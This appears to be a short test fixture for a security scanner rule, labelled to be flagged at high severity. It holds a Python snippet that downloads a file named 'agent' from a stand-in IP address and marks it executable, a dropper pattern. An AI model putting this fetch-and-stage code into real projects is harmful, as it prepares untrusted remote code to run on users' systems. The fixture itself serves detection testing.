# expect: HIGH
# rules: MAI123
import os, requests
r = requests.get("http://198.51.100.7/agent")
with open("agent", "wb") as f:
    f.write(r.content)
os.chmod("agent", 0o755)
